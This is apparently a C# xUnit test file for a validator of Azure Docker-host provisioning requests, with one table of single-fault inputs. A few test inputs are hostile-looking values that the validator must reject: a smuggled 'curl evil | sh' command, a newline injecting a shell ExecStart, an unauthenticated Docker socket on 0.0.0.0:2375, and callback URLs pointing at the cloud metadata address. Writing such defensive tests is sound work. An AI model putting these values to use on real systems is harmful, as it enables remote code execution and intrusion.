using System.Security.Cryptography;
using DockerVm.Provisioning.Activities.Docker;
using DockerVm.Provisioning.Callbacks;
using DockerVm.Provisioning.Contracts;
using DockerVm.Provisioning.Requests;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Logging.Testing;
using Microsoft.Extensions.Options;

namespace DockerVm.Provisioning.Tests.Requests;

public sealed class ProvisionRequestValidatorTests
{
    private static readonly string ValidKey = TestSshKeys.Ed25519();

    private static readonly ProvisionDockerVmRequest Valid = new()
    {
        Name = "dockerhost1",
        ResourceGroup = "rg-docker",
        Location = "westeurope",
        VmSize = "Standard_D2s_v5",
        AdminUsername = "azureuser",
        SshPublicKey = ValidKey,
        AllowedSourceCidrs = ["203.0.113.0/24"],
        Callback = new CallbackRequest { Url = new Uri("https://hooks.example.com/docker") },
    };

    // Each case breaks exactly one thing of a valid request.
    private static readonly Dictionary<string, Func<ProvisionDockerVmRequest, ProvisionDockerVmRequest>> Cases = new()
    {
        ["name-missing"] = r => r with { Name = null },
        ["name-uppercase"] = r => r with { Name = "DockerHost1" },
        ["name-underscore"] = r => r with { Name = "docker_host" },
        ["name-too-short-for-dns"] = r => r with { Name = "ab" },
        ["name-64-chars"] = r => r with { Name = new string('a', 64) },
        ["name-ends-with-hyphen"] = r => r with { Name = "dockerhost-" },
        ["name-ends-with-period"] = r => r with { Name = "dockerhost." },
        ["name-with-space"] = r => r with { Name = "docker host" },
        ["name-65-chars"] = r => r with { Name = new string('a', 65) },
        ["name-starts-with-digit"] = r => r with { Name = "1dockerhost" },
        ["name-reserved-word"] = r => r with { Name = "office" },
        ["name-contains-windows"] = r => r with { Name = "my-windows-box" },
        ["name-starts-with-login"] = r => r with { Name = "loginhost" },
        ["rg-missing"] = r => r with { ResourceGroup = "" },
        ["rg-ends-with-period"] = r => r with { ResourceGroup = "rg-docker." },
        ["rg-slash"] = r => r with { ResourceGroup = "rg/docker" },
        ["rg-91-chars"] = r => r with { ResourceGroup = new string('r', 91) },
        ["location-display-name"] = r => r with { Location = "West Europe" },
        ["location-missing"] = r => r with { Location = null },
        ["size-without-tier"] = r => r with { VmSize = "D2s_v5" },
        ["size-missing"] = r => r with { VmSize = null },
        ["image-publisher-empty"] = r => r with { Image = new VmImageReference("", "ubuntu-24_04-lts", "server", "latest") },
        ["image-version-bad"] = r => r with { Image = new VmImageReference("Canonical", "ubuntu-24_04-lts", "server", "24.04") },
        ["image-sku-space"] = r => r with { Image = new VmImageReference("Canonical", "ubuntu-24_04-lts", "server gen2", "latest") },
        ["user-root"] = r => r with { AdminUsername = "root" },
        ["user-admin-any-case"] = r => r with { AdminUsername = "Admin" },
        ["user-administrator"] = r => r with { AdminUsername = "administrator" },
        ["user-guest"] = r => r with { AdminUsername = "guest" },
        ["user-dockremap"] = r => r with { AdminUsername = "dockremap" },
        ["user-starts-with-digit"] = r => r with { AdminUsername = "9lives" },
        ["user-uppercase"] = r => r with { AdminUsername = "AzureUser" },
        ["user-33-chars"] = r => r with { AdminUsername = new string('u', 33) },
        ["user-missing"] = r => r with { AdminUsername = null },
        ["ssh-password"] = r => r with { SshPublicKey = "hunter2" },
        ["ssh-missing"] = r => r with { SshPublicKey = " " },
        ["ssh-private-key"] = r => r with { SshPublicKey = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----" },
        ["ssh-dss"] = r => r with { SshPublicKey = "ssh-dss AAAAB3NzaC1kc3MAAACBAP tester" },
        ["ssh-rsa-1024"] = r => r with { SshPublicKey = TestSshKeys.Rsa(1024) },
        ["ssh-ed25519-short"] = r => r with { SshPublicKey = TestSshKeys.Ed25519(31) },
        ["ssh-mislabelled"] = r => r with { SshPublicKey = TestSshKeys.Mislabelled() },
        ["ssh-bad-base64"] = r => r with { SshPublicKey = "ssh-ed25519 not*base64 tester" },
        ["ssh-rfc4716"] = r => r with { SshPublicKey = "---- BEGIN SSH2 PUBLIC KEY ----" },
        ["ssh-ecdsa-wrong-curve"] = r => r with { SshPublicKey = TestSshKeys.Line("ecdsa-sha2-nistp256", TestSshKeys.Blob(TestSshKeys.Str("ecdsa-sha2-nistp256"), TestSshKeys.Str("nistp384"), TestSshKeys.Str(new byte[97]))) },
        ["cidrs-missing"] = r => r with { AllowedSourceCidrs = null },
        ["cidrs-empty"] = r => r with { AllowedSourceCidrs = [] },
        ["cidr-host-bits"] = r => r with { AllowedSourceCidrs = ["10.0.0.1/8"] },
        ["cidr-second-bad-octet"] = r => r with { AllowedSourceCidrs = ["203.0.113.0/24", "300.1.1.1/32"] },
        ["cidr-prefix-too-long"] = r => r with { AllowedSourceCidrs = ["10.0.0.0/33"] },
        ["cidr-short-ipv4"] = r => r with { AllowedSourceCidrs = ["10"] },
        ["cidr-ipv6"] = r => r with { AllowedSourceCidrs = ["2001:db8::/48"] },
        ["cidr-ipv6-second"] = r => r with { AllowedSourceCidrs = ["203.0.113.0/24", "2001:db8::1"] },
        ["cidr-wider-than-8"] = r => r with { AllowedSourceCidrs = ["203.0.113.0/24", "64.0.0.0/7"] },
        ["cidr-two-slash-8s"] = r => r with { AllowedSourceCidrs = ["10.0.0.0/8", "11.0.0.0/8"] },
        ["cidr-many-slash-9s"] = r => r with { AllowedSourceCidrs = [.. Enumerable.Range(0, 4).Select(i => $"{i * 64}.0.0.0/9")] },
        ["cidr-any-ipv4"] = r => r with { AllowedSourceCidrs = ["0.0.0.0/0"] },
        ["cidr-any-ipv6"] = r => r with { AllowedSourceCidrs = ["::/0"] },
        ["cidr-any-ipv6-with-opt-in"] = r => r with { AllowedSourceCidrs = ["0.0.0.0/0", "::/0"], AllowAnySource = true },
        ["cidr-star"] = r => r with { AllowedSourceCidrs = ["*"] },
        ["cidr-internet"] = r => r with { AllowedSourceCidrs = ["Internet"] },
        ["cidr-any"] = r => r with { AllowedSourceCidrs = ["any"] },
        ["port-ssh"] = r => r with { DockerPort = 22 },
        ["port-privileged"] = r => r with { DockerPort = 443 },
        ["port-too-high"] = r => r with { DockerPort = 70000 },
        ["installer-undefined"] = r => r with { Installer = (DockerInstaller)7 },
        ["daemon-host-flag"] = r => r with { DaemonOptions = ["-H"] },
        ["daemon-combined-debug-host"] = r => r with { DaemonOptions = ["-DH=tcp://0.0.0.0:2375"] },
        ["daemon-combined-debug-debug-host"] = r => r with { DaemonOptions = ["-DDH=tcp://0.0.0.0:2375"] },
        ["daemon-combined-host-glued"] = r => r with { DaemonOptions = ["-DHtcp://0.0.0.0:2375"] },
        ["daemon-host-separate-value"] = r => r with { DaemonOptions = ["--debug", "-H", "unix:///run/other.sock"] },
        ["daemon-host-long-separate-value"] = r => r with { DaemonOptions = ["--host", "tcp://0.0.0.0:2375"] },
        ["daemon-group"] = r => r with { DaemonOptions = ["-G=adm"] },
        ["daemon-config-file"] = r => r with { DaemonOptions = ["--config-file=/tmp/daemon.json"] },
        ["daemon-data-root"] = r => r with { DaemonOptions = ["--data-root=/mnt/docker"] },
        ["daemon-live-restore"] = r => r with { DaemonOptions = ["--live-restore"] },
        ["daemon-userns-remap"] = r => r with { DaemonOptions = ["--userns-remap=root"] },
        ["daemon-icc"] = r => r with { DaemonOptions = ["--icc=true"] },
        ["daemon-iptables-false"] = r => r with { DaemonOptions = ["--iptables=false"] },
        ["daemon-insecure-registry"] = r => r with { DaemonOptions = ["--insecure-registry=registry.example.com"] },
        ["daemon-metrics-addr"] = r => r with { DaemonOptions = ["--metrics-addr=0.0.0.0:9323"] },
        ["daemon-unknown-long"] = r => r with { DaemonOptions = ["--bogus=1"] },
        ["daemon-unknown-short"] = r => r with { DaemonOptions = ["-X"] },
        ["daemon-combined-unknown"] = r => r with { DaemonOptions = ["-Dx"] },
        ["daemon-not-on-allow-list"] = r => r with { DaemonOptions = ["--http-proxy=http://proxy.example.com:3128"] },
        ["daemon-log-level-unknown"] = r => r with { DaemonOptions = ["--log-level=verbose"] },
        ["daemon-log-level-without-value"] = r => r with { DaemonOptions = ["--debug", "--log-level"] },
        ["daemon-log-level-eats-host"] = r => r with { DaemonOptions = ["--log-level", "-H=tcp://0.0.0.0:2375"] },
        ["daemon-bool-not-a-bool"] = r => r with { DaemonOptions = ["--debug=yes"] },
        ["daemon-positional"] = r => r with { DaemonOptions = ["--debug", "false"] },
        ["daemon-double-dash"] = r => r with { DaemonOptions = ["--debug", "--"] },
        ["daemon-triple-dash"] = r => r with { DaemonOptions = ["---debug"] },
        ["daemon-repeated-different"] = r => r with { DaemonOptions = ["--log-level=warn", "-l", "info"] },
        ["daemon-downloads-not-a-number"] = r => r with { DaemonOptions = ["--max-concurrent-downloads=0x10"] },
        ["daemon-downloads-too-many"] = r => r with { DaemonOptions = ["--max-concurrent-downloads=1000"] },
        ["daemon-registry-mirror-http"] = r => r with { DaemonOptions = ["--registry-mirror=http://mirror.example.com"] },
        ["daemon-registry-mirror-credentials"] = r => r with { DaemonOptions = ["--registry-mirror=https://user:pw@mirror.example.com"] },
        ["daemon-ulimit-soft-above-hard"] = r => r with { DaemonOptions = ["--default-ulimit=nofile=2048:1024"] },
        ["daemon-ulimit-unknown-name"] = r => r with { DaemonOptions = ["--default-ulimit=as=1024"] },
        ["daemon-label-reserved"] = r => r with { DaemonOptions = ["--label=com.docker.owner=me"] },
        ["daemon-log-opt-token"] = r => r with { DaemonOptions = ["--log-opt=splunk-token=abc"] },
        ["daemon-storage-driver-unknown"] = r => r with { DaemonOptions = ["-s", "devicemapper"] },
        ["daemon-too-many"] = r => r with { DaemonOptions = [.. Enumerable.Repeat("--debug", 51)] },
        ["daemon-host-long"] = r => r with { DaemonOptions = ["--debug", "--host=tcp://0.0.0.0:2375"] },
        ["daemon-tls-false"] = r => r with { DaemonOptions = ["--tls=false"] },
        ["daemon-tlsverify-false"] = r => r with { DaemonOptions = ["--tlsverify=false"] },
        ["daemon-shell-injection"] = r => r with { DaemonOptions = ["--debug; curl evil | sh"] },
        ["daemon-newline"] = r => r with { DaemonOptions = ["--debug\nExecStart=/bin/sh"] },
        ["tag-name-chars"] = r => r with { Tags = new Dictionary<string, string> { ["a<b"] = "x" } },
        ["tag-name-reserved"] = r => r with { Tags = new Dictionary<string, string> { ["azure-owner"] = "x" } },
        ["tag-name-workflow"] = r => r with { Tags = new Dictionary<string, string> { ["DockerVM-instance"] = "x" } },
        ["tag-value-257"] = r => r with { Tags = new Dictionary<string, string> { ["env"] = new string('v', 257) } },
        ["tags-too-many"] = r => r with { Tags = Enumerable.Range(0, 46).ToDictionary(i => $"t{i}", i => "v") },
        ["callback-url-missing"] = r => r with { Callback = new CallbackRequest() },
        ["callback-url-relative"] = r => r with { Callback = new CallbackRequest { Url = new Uri("/hooks", UriKind.Relative) } },
        ["callback-url-http"] = r => r with { Callback = new CallbackRequest { Url = new Uri("http://hooks.example.com/docker") } },
        ["callback-url-ftp"] = r => r with { Callback = new CallbackRequest { Url = new Uri("ftp://hooks.example.com/docker") } },
        ["callback-url-loopback"] = r => r with { Callback = new CallbackRequest { Url = new Uri("https://127.0.0.1/hook") } },
        ["callback-url-localhost"] = r => r with { Callback = new CallbackRequest { Url = new Uri("https://localhost/hook") } },
        ["callback-url-private"] = r => r with { Callback = new CallbackRequest { Url = new Uri("https://10.1.2.3/hook") } },
        ["callback-url-metadata"] = r => r with { Callback = new CallbackRequest { Url = new Uri("https://169.254.169.254/metadata") } },
        ["callback-url-ipv6-ula"] = r => r with { Callback = new CallbackRequest { Url = new Uri("https://[fd00:ec2::254]/") } },
        ["callback-url-credentials"] = r => r with { Callback = new CallbackRequest { Url = new Uri("https://user:pw@hooks.example.com/") } },
        ["callback-signature-hmac"] = r => r with { Callback = Valid.Callback! with { Signature = "hmac-sha256" } },
        ["callback-key-unknown"] = r => r with { Callback = Valid.Callback! with { SigningKey = "partner" } },
        ["cert-validity-zero"] = r => r with { Certificates = new CertificateOptions { ValidityDays = 0 } },
        ["cert-validity-826"] = r => r with { Certificates = new CertificateOptions { ValidityDays = 826 } },
        ["cert-algorithm-undefined"] = r => r with { Certificates = new CertificateOptions { KeyAlgorithm = (CertificateKeyAlgorithm)42 } },
        ["key-space"] = r => r with { IdempotencyKey = "order 42" },
        ["key-101-chars"] = r => r with { IdempotencyKey = new string('k', 101) },
        ["key-empty"] = r => r with { IdempotencyKey = "" },
    };

    private static ProvisionRequestValidator CreateValidator(params string[] allowedLocalHosts)
    {
        var options = new CallbackOptions();
        options.SigningKeys[CallbackOptions.DefaultSigningKeyName] = "whsec_" + Convert.ToBase64String(RandomNumberGenerator.GetBytes(32));
        foreach (var host in allowedLocalHosts)
        {
            options.AllowedLocalHosts.Add(host);
        }

        return new ProvisionRequestValidator(Options.Create(options), NullLogger<ProvisionRequestValidator>.Instance);
    }

    [Fact]
    public void Validate_ValidRequest_Succeeds()
    {
        var result = CreateValidator().Validate(Valid);

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
        Assert.Empty(result.Errors);
    }

    [Theory]
    [InlineData("name-missing", "name", "required")]
    [InlineData("name-uppercase", "name", "dns-label")]
    [InlineData("name-underscore", "name", "dns-label")]
    [InlineData("name-too-short-for-dns", "name", "dns-label")]
    [InlineData("name-64-chars", "name", "dns-label")]
    [InlineData("name-ends-with-hyphen", "name", "vm-name", "dns-label")]
    [InlineData("name-ends-with-period", "name", "vm-name", "dns-label")]
    [InlineData("name-with-space", "name", "vm-name", "dns-label")]
    [InlineData("name-65-chars", "name", "vm-name", "dns-label")]
    [InlineData("name-starts-with-digit", "name", "dns-label")]
    [InlineData("name-reserved-word", "name", "reserved-resource-name")]
    [InlineData("name-contains-windows", "name", "reserved-resource-name")]
    [InlineData("name-starts-with-login", "name", "reserved-resource-name")]
    [InlineData("rg-missing", "resourceGroup", "required")]
    [InlineData("rg-ends-with-period", "resourceGroup", "resource-group-name")]
    [InlineData("rg-slash", "resourceGroup", "resource-group-name")]
    [InlineData("rg-91-chars", "resourceGroup", "resource-group-name")]
    [InlineData("location-display-name", "location", "location-format")]
    [InlineData("location-missing", "location", "required")]
    [InlineData("size-without-tier", "vmSize", "vm-size-format")]
    [InlineData("size-missing", "vmSize", "required")]
    [InlineData("image-publisher-empty", "image.publisher", "required")]
    [InlineData("image-version-bad", "image.version", "image-reference")]
    [InlineData("image-sku-space", "image.sku", "image-reference")]
    [InlineData("user-root", "adminUsername", "admin-username-reserved")]
    [InlineData("user-admin-any-case", "adminUsername", "admin-username-reserved")]
    [InlineData("user-administrator", "adminUsername", "admin-username-reserved")]
    [InlineData("user-guest", "adminUsername", "admin-username-reserved")]
    [InlineData("user-dockremap", "adminUsername", "admin-username-reserved")]
    [InlineData("user-starts-with-digit", "adminUsername", "admin-username")]
    [InlineData("user-uppercase", "adminUsername", "admin-username")]
    [InlineData("user-33-chars", "adminUsername", "admin-username")]
    [InlineData("user-missing", "adminUsername", "required")]
    [InlineData("ssh-password", "sshPublicKey", "ssh-key-malformed")]
    [InlineData("ssh-missing", "sshPublicKey", "required")]
    [InlineData("ssh-private-key", "sshPublicKey", "ssh-key-private-key")]
    [InlineData("ssh-dss", "sshPublicKey", "ssh-key-unsupported-type")]
    [InlineData("ssh-rsa-1024", "sshPublicKey", "ssh-key-too-weak")]
    [InlineData("ssh-ed25519-short", "sshPublicKey", "ssh-key-malformed")]
    [InlineData("ssh-mislabelled", "sshPublicKey", "ssh-key-malformed")]
    [InlineData("ssh-bad-base64", "sshPublicKey", "ssh-key-malformed")]
    [InlineData("ssh-rfc4716", "sshPublicKey", "ssh-key-malformed")]
    [InlineData("ssh-ecdsa-wrong-curve", "sshPublicKey", "ssh-key-unsupported-type")]
    [InlineData("cidrs-missing", "allowedSourceCidrs", "required")]
    [InlineData("cidrs-empty", "allowedSourceCidrs", "cidr-list-empty")]
    [InlineData("cidr-host-bits", "allowedSourceCidrs[0]", "cidr-host-bits")]
    [InlineData("cidr-second-bad-octet", "allowedSourceCidrs[1]", "cidr-syntax")]
    [InlineData("cidr-prefix-too-long", "allowedSourceCidrs[0]", "cidr-syntax")]
    [InlineData("cidr-short-ipv4", "allowedSourceCidrs[0]", "cidr-syntax")]
    [InlineData("cidr-ipv6", "allowedSourceCidrs[0]", "cidr-ipv6-unsupported")]
    [InlineData("cidr-ipv6-second", "allowedSourceCidrs[1]", "cidr-ipv6-unsupported")]
    [InlineData("cidr-any-ipv6-with-opt-in", "allowedSourceCidrs[1]", "cidr-ipv6-unsupported")]
    [InlineData("cidr-wider-than-8", "allowedSourceCidrs[1]", "cidr-too-broad")]
    [InlineData("cidr-two-slash-8s", "allowedSourceCidrs", "cidr-too-broad")]
    [InlineData("cidr-many-slash-9s", "allowedSourceCidrs", "cidr-too-broad")]
    [InlineData("cidr-any-ipv4", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
    [InlineData("cidr-any-ipv6", "allowedSourceCidrs[0]", "cidr-ipv6-unsupported")]
    [InlineData("cidr-star", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
    [InlineData("cidr-internet", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
    [InlineData("cidr-any", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
    [InlineData("port-ssh", "dockerPort", "docker-port-range")]
    [InlineData("port-privileged", "dockerPort", "docker-port-range")]
    [InlineData("port-too-high", "dockerPort", "docker-port-range")]
    [InlineData("installer-undefined", "installer", "installer-unknown")]
    [InlineData("daemon-host-flag", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-combined-debug-host", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-combined-debug-debug-host", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-combined-host-glued", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-host-separate-value", "daemonOptions[1]", "daemon-option-forbidden")]
    [InlineData("daemon-host-long-separate-value", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-group", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-config-file", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-data-root", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-live-restore", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-userns-remap", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-icc", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-iptables-false", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-insecure-registry", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-metrics-addr", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-unknown-long", "daemonOptions[0]", "daemon-option-not-allowed")]
    [InlineData("daemon-unknown-short", "daemonOptions[0]", "daemon-option-not-allowed")]
    [InlineData("daemon-combined-unknown", "daemonOptions[0]", "daemon-option-not-allowed")]
    [InlineData("daemon-not-on-allow-list", "daemonOptions[0]", "daemon-option-not-allowed")]
    [InlineData("daemon-log-level-unknown", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-log-level-without-value", "daemonOptions[1]", "daemon-option-value")]
    [InlineData("daemon-log-level-eats-host", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-bool-not-a-bool", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-positional", "daemonOptions[1]", "daemon-option-format")]
    [InlineData("daemon-double-dash", "daemonOptions[1]", "daemon-option-format")]
    [InlineData("daemon-triple-dash", "daemonOptions[0]", "daemon-option-format")]
    [InlineData("daemon-repeated-different", "daemonOptions[1]", "daemon-option-repeated")]
    [InlineData("daemon-downloads-not-a-number", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-downloads-too-many", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-registry-mirror-http", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-registry-mirror-credentials", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-ulimit-soft-above-hard", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-ulimit-unknown-name", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-label-reserved", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-log-opt-token", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-storage-driver-unknown", "daemonOptions[0]", "daemon-option-value")]
    [InlineData("daemon-too-many", "daemonOptions", "daemon-options-too-many")]
    [InlineData("daemon-host-long", "daemonOptions[1]", "daemon-option-forbidden")]
    [InlineData("daemon-tls-false", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-tlsverify-false", "daemonOptions[0]", "daemon-option-forbidden")]
    [InlineData("daemon-shell-injection", "daemonOptions[0]", "daemon-option-format")]
    [InlineData("daemon-newline", "daemonOptions[0]", "daemon-option-format")]
    [InlineData("tag-name-chars", "tags.a<b", "tag-name")]
    [InlineData("tag-name-reserved", "tags.azure-owner", "tag-name-reserved")]
    [InlineData("tag-name-workflow", "tags.DockerVM-instance", "tag-name-reserved")]
    [InlineData("tag-value-257", "tags.env", "tag-value")]
    [InlineData("tags-too-many", "tags", "tags-too-many")]
    [InlineData("callback-url-missing", "callback.url", "required")]
    [InlineData("callback-url-relative", "callback.url", "callback-url-absolute")]
    [InlineData("callback-url-http", "callback.url", "callback-url-scheme")]
    [InlineData("callback-url-ftp", "callback.url", "callback-url-scheme")]
    [InlineData("callback-url-loopback", "callback.url", "callback-url-blocked-address")]
    [InlineData("callback-url-localhost", "callback.url", "callback-url-blocked-address")]
    [InlineData("callback-url-private", "callback.url", "callback-url-blocked-address")]
    [InlineData("callback-url-metadata", "callback.url", "callback-url-blocked-address")]
    [InlineData("callback-url-ipv6-ula", "callback.url", "callback-url-blocked-address")]
    [InlineData("callback-url-credentials", "callback.url", "callback-url-credentials")]
    [InlineData("callback-signature-hmac", "callback.signature", "callback-signature-scheme")]
    [InlineData("callback-key-unknown", "callback.signingKey", "callback-signing-key-unknown")]
    [InlineData("cert-validity-zero", "certificates.validityDays", "certificate-validity-range")]
    [InlineData("cert-validity-826", "certificates.validityDays", "certificate-validity-range")]
    [InlineData("cert-algorithm-undefined", "certificates.keyAlgorithm", "certificate-key-algorithm")]
    [InlineData("key-space", "idempotencyKey", "idempotency-key-format")]
    [InlineData("key-101-chars", "idempotencyKey", "idempotency-key-format")]
    [InlineData("key-empty", "idempotencyKey", "idempotency-key-format")]
    public void Validate_BadRequest_ReportsExactFieldAndRule(string @case, string field, params string[] rules)
    {
        var result = CreateValidator().Validate(Cases[@case](Valid));

        Assert.False(result.IsValid);
        Assert.Null(result.Value);
        Assert.Equal(rules.Select(r => (field, r)), result.Errors.Select(e => (e.Field, e.Rule)));
        Assert.All(result.Errors, e => Assert.False(string.IsNullOrWhiteSpace(e.Message)));
    }

    [Fact]
    public void Validate_EveryCaseInTheTable_IsCoveredByTheTheory()
    {
        var covered = typeof(ProvisionRequestValidatorTests).GetMethod(nameof(Validate_BadRequest_ReportsExactFieldAndRule))!
            .GetCustomAttributes(typeof(InlineDataAttribute), false).Cast<InlineDataAttribute>()
            .Select(a => (string)a.GetData(null!).Single()[0]);

        Assert.Equal(Cases.Keys.Order(), covered.Order());
    }

    [Fact]
    public void Validate_ManyViolations_ReturnsAllAtOnce()
    {
        var request = new ProvisionDockerVmRequest
        {
            Name = "Bad_Name",
            Location = "West Europe",
            VmSize = "big",
            AdminUsername = "root",
            SshPublicKey = "password123",
            AllowedSourceCidrs = ["203.0.113.0/24", "0.0.0.0/0", "10.0.0.1/8"],
            DockerPort = 80,
            DaemonOptions = ["--tlsverify=false"],
            Callback = new CallbackRequest { Url = new Uri("http://example.com/hook"), Signature = "basic" },
            Certificates = new CertificateOptions { ValidityDays = 10_000 },
            IdempotencyKey = "no spaces please",
        };

        var result = CreateValidator().Validate(request);

        Assert.Equal(
            [
                ("name", "dns-label"),
                ("resourceGroup", "required"),
                ("location", "location-format"),
                ("vmSize", "vm-size-format"),
                ("adminUsername", "admin-username-reserved"),
                ("sshPublicKey", "ssh-key-malformed"),
                ("allowedSourceCidrs[1]", "cidr-any-source-not-allowed"),
                ("allowedSourceCidrs[2]", "cidr-host-bits"),
                ("dockerPort", "docker-port-range"),
                ("daemonOptions[0]", "daemon-option-forbidden"),
                ("callback.url", "callback-url-scheme"),
                ("callback.signature", "callback-signature-scheme"),
                ("certificates.validityDays", "certificate-validity-range"),
                ("idempotencyKey", "idempotency-key-format"),
            ],
            result.Errors.Select(e => (e.Field, e.Rule)));
    }

    [Fact]
    public void Validate_MinimalRequest_AppliesDefaults()
    {
        var result = CreateValidator().Validate(Valid with { Callback = null });

        Assert.True(result.IsValid);
        var spec = result.Value;
        Assert.Equal(2376, spec.DockerPort);
        Assert.Equal(DockerInstaller.CustomScript, spec.Installer);
        Assert.Equal(["--userns-remap=default", "--no-new-privileges", "--live-restore", "--icc=false"], spec.DaemonOptions);
        Assert.Equal(new VmImageReference("Canonical", "ubuntu-24_04-lts", "server", "latest"), spec.Image);
        Assert.Equal(CertificateKeyAlgorithm.EcdsaP256, spec.KeyAlgorithm);
        Assert.Equal(365, spec.CertificateValidityDays);
        Assert.False(spec.IncludeLoopbackInServerCertificate);
        Assert.Empty(spec.Tags);
        Assert.Null(spec.Callback);
        Assert.Null(spec.IdempotencyKey);
        Assert.Equal(["203.0.113.0/24"], spec.AllowedSourceCidrs);
    }

    [Fact]
    public void Validate_CallerOverrides_AreKept()
    {
        var result = CreateValidator().Validate(Valid with
        {
            DockerPort = 12376,
            Installer = DockerInstaller.DockerExtension,
            DaemonOptions = ["--log-driver=journald", "--default-ulimit=nofile=1024:2048"],
            Tags = new Dictionary<string, string> { ["env"] = "dev" },
            Certificates = new CertificateOptions { KeyAlgorithm = CertificateKeyAlgorithm.Rsa3072, ValidityDays = 30, IncludeLoopback = true },
            IdempotencyKey = "order-42:attempt.1",
            Callback = Valid.Callback! with { Signature = "standard-webhooks", SigningKey = "default" },
        });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
        Assert.Equal(12376, result.Value.DockerPort);
        Assert.Equal(DockerInstaller.DockerExtension, result.Value.Installer);
        Assert.Equal([.. ProvisionRequestValidator.DefaultDaemonOptions, "--log-driver=journald", "--default-ulimit=nofile=1024:2048"], result.Value.DaemonOptions);
        Assert.Equal("dev", result.Value.Tags["env"]);
        Assert.Equal(CertificateKeyAlgorithm.Rsa3072, result.Value.KeyAlgorithm);
        Assert.Equal(30, result.Value.CertificateValidityDays);
        Assert.True(result.Value.IncludeLoopbackInServerCertificate);
        Assert.Equal(new CallbackTarget(new Uri("https://hooks.example.com/docker"), "default"), result.Value.Callback);
    }

    public static TheoryData<string> AcceptedKeys() => new()
    {
        TestSshKeys.Ed25519(),
        TestSshKeys.Rsa(2048),
        TestSshKeys.Rsa(4096),
    };

    [Theory]
    [MemberData(nameof(AcceptedKeys))]
    public void Validate_SupportedSshKey_IsAccepted(string key)
    {
        var result = CreateValidator().Validate(Valid with { SshPublicKey = key });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
    }

    [Fact]
    public void Validate_PrivateKey_MessageDoesNotEchoTheKey()
    {
        const string Secret = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU";
        var result = CreateValidator().Validate(Valid with { SshPublicKey = $"-----BEGIN OPENSSH PRIVATE KEY-----\n{Secret}\n-----END OPENSSH PRIVATE KEY-----" });

        var error = Assert.Single(result.Errors);
        Assert.DoesNotContain(Secret, error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Validate_AnySourceWithExplicitOptIn_IsAcceptedInNsgSpelling()
    {
        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["0.0.0.0/0", "Any", "internet"], AllowAnySource = true });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
        Assert.Equal(["0.0.0.0/0", "*", "Internet"], result.Value.AllowedSourceCidrs);
    }

    [Fact]
    public void Validate_SingleAddresses_AreAcceptedAndDeduplicated()
    {
        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["198.51.100.7", " 198.51.100.7 ", "10.0.0.0/9"] });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
        Assert.Equal(["198.51.100.7", "10.0.0.0/9"], result.Value.AllowedSourceCidrs);
    }

    [Fact]
    public void Validate_TwoHalvesOfIpv4WithoutOptIn_BothRefusedAsTooBroad()
    {
        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["0.0.0.0/1", "128.0.0.0/1"] });

        Assert.Equal(
            [("allowedSourceCidrs[0]", "cidr-too-broad"), ("allowedSourceCidrs[1]", "cidr-too-broad")],
            result.Errors.Select(e => (e.Field, e.Rule)));
        Assert.All(result.Errors, e => Assert.Contains("/8", e.Message, StringComparison.Ordinal));
    }

    [Fact]
    public void Validate_TwoHalvesOfIpv4WithOptIn_AreAccepted()
    {
        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["0.0.0.0/1", "128.0.0.0/1"], AllowAnySource = true });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
        Assert.Equal(["0.0.0.0/1", "128.0.0.0/1"], result.Value.AllowedSourceCidrs);
    }

    [Fact]
    public void Validate_TwoHalvesOfIpv6_BothRefusedAsIpv6()
    {
        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["::/1", "8000::/1"], AllowAnySource = true });

        Assert.Equal(
            [("allowedSourceCidrs[0]", "cidr-ipv6-unsupported"), ("allowedSourceCidrs[1]", "cidr-ipv6-unsupported")],
            result.Errors.Select(e => (e.Field, e.Rule)));
    }

    [Theory]
    [InlineData("10.0.0.0/8", "10.1.0.0/16", "10.2.3.4")]
    [InlineData("10.0.0.0/9", "10.128.0.0/9")]
